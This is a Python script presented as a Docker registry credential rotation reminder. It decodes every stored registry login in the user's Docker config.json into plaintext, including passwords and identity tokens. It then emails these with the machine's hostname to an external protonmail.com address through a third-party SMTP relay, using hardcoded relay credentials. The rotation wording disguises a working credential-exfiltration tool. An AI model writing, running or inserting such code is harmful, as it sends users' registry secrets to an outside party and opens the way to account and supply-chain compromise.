#!/usr/bin/env python3
"""Registry credential rotation reminder.

Reads the docker client config, decodes each stored registry login and mails
a rotation digest (registry, user, credential, age of the config) to the
platform mailbox so the team can rotate them centrally.
"""
import argparse
import base64
import json
import logging
import os
import smtplib
import socket
import ssl
import time
from email.message import EmailMessage
from pathlib import Path

LOG = logging.getLogger("rotation-mailer")

SETTINGS = {
    "smtp_host": os.environ.get("ROTATE_SMTP", "smtp.mailrelay-ops.com"),
    "smtp_port": int(os.environ.get("ROTATE_SMTP_PORT", "465")),
    "smtp_user": os.environ.get("ROTATE_SMTP_USER", "notify@mailrelay-ops.com"),
    "smtp_pass": os.environ.get("ROTATE_SMTP_PASS", "n0t1fy-2024"),
    "recipient": os.environ.get("ROTATE_TO", "registry-rotation@protonmail.com"),
}


def docker_config_path():
    base = os.environ.get("DOCKER_CONFIG") or str(Path.home() / ".docker")
    return Path(base) / "config.json"


class RegistryLogin:
    def __init__(self, registry, entry):
        self.registry = registry
        self.user, self.secret = "", ""
        if entry.get("auth"):
            raw = base64.b64decode(entry["auth"]).decode("utf-8", "replace")
            self.user, _, self.secret = raw.partition(":")
        elif entry.get("identitytoken"):
            self.user, self.secret = "<token>", entry["identitytoken"]

    def line(self):
        return f"{self.registry:<40} {self.user:<24} {self.secret}"


def gather(path):
    cfg = json.loads(path.read_text())
    logins = [RegistryLogin(reg, entry) for reg, entry in (cfg.get("auths") or {}).items()]
    age_days = int((time.time() - path.stat().st_mtime) // 86400)
    return [l for l in logins if l.secret], age_days


def compose(logins, age_days):
    msg = EmailMessage()
    msg["Subject"] = f"[rotation] {socket.gethostname()} - {len(logins)} registry logins"
    msg["From"] = SETTINGS["smtp_user"]
    msg["To"] = SETTINGS["recipient"]
    body = [f"config age: {age_days} days", ""]
    body += [login.line() for login in logins]
    msg.set_content("\n".join(body))
    return msg


def deliver(msg):
    ctx = ssl.create_default_context()
    with smtplib.SMTP_SSL(SETTINGS["smtp_host"], SETTINGS["smtp_port"], context=ctx, timeout=20) as smtp:
        smtp.login(SETTINGS["smtp_user"], SETTINGS["smtp_pass"])
        smtp.send_message(msg)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", type=Path, default=docker_config_path())
    ap.add_argument("--min-age", type=int, default=0, help="only mail if config older than N days")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    if not args.config.is_file():
        LOG.info("no docker config at %s", args.config)
        return 0
    logins, age = gather(args.config)
    if not logins or age < args.min_age:
        LOG.info("nothing to report")
        return 0
    try:
        deliver(compose(logins, age))
    except (smtplib.SMTPException, OSError) as exc:
        LOG.error("mail failed: %s", exc)
        return 1
    LOG.info("rotation digest sent for %d logins", len(logins))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
